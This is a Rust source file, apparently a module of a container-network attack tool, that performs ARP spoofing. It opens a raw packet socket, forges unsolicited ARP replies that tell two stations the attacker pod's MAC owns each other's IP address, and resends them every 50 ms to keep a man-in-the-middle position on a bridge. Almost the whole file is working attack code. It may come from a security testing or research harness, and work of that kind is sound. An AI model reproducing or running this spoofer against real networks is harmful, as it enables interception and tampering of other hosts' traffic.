//! Answers of ARP that nobody asked for, by which a pod comes between two others on a bridge.

use std::{io, net::Ipv4Addr, thread, time::Duration};

use rustix::net::netdevice;
use serde::{Deserialize, Serialize};
use socket2::{Domain, Socket, Type};

use super::Course;
use crate::pod_client::attack::{
    frame::{INTERFACE, mac},
    sys::link_address,
};

/// Before a station asks again by itself.
const PAUSE: Duration = Duration::from_millis(50);

/// One who is deceived.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Station {
    /// Its address.
    pub address: Ipv4Addr,
    /// Its MAC.
    pub mac: String,
}

pub(super) fn run(course: &Course, stations: &[Station; 2], own: &str) -> io::Result<()> {
    let socket = Socket::new(Domain::PACKET, Type::RAW, None)?;
    let interface = netdevice::name_to_index(&socket, INTERFACE)?;
    let [first, second] = stations;
    let lies = [lie(first, second.address, own)?, lie(second, first.address, own)?];
    course.in_full_swing();
    while course.goes_on() {
        for (to, frame) in &lies {
            socket.send_to(frame, &link_address(interface, *to, libc::ETH_P_ARP as u16))?;
            course.count("lies", 1);
        }
        thread::sleep(PAUSE);
    }
    Ok(())
}

/// What tells `to` that `own` has `address`, and where it goes.
fn lie(to: &Station, address: Ipv4Addr, own: &str) -> io::Result<([u8; 6], Vec<u8>)> {
    /// Of Ethernet and IPv4, an answer.
    const ARP: [u8; 10] = [0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 2];
    let no_mac = || io::Error::other(format!("no MAC: {own:?} or {to:?}"));
    let (station, own) = (mac(&to.mac).ok_or_else(no_mac)?, mac(own).ok_or_else(no_mac)?);
    let (address, its) = (address.octets(), to.address.octets());
    Ok((station, [&station[..], &own, &ARP, &own, &address, &station, &its].concat()))
}
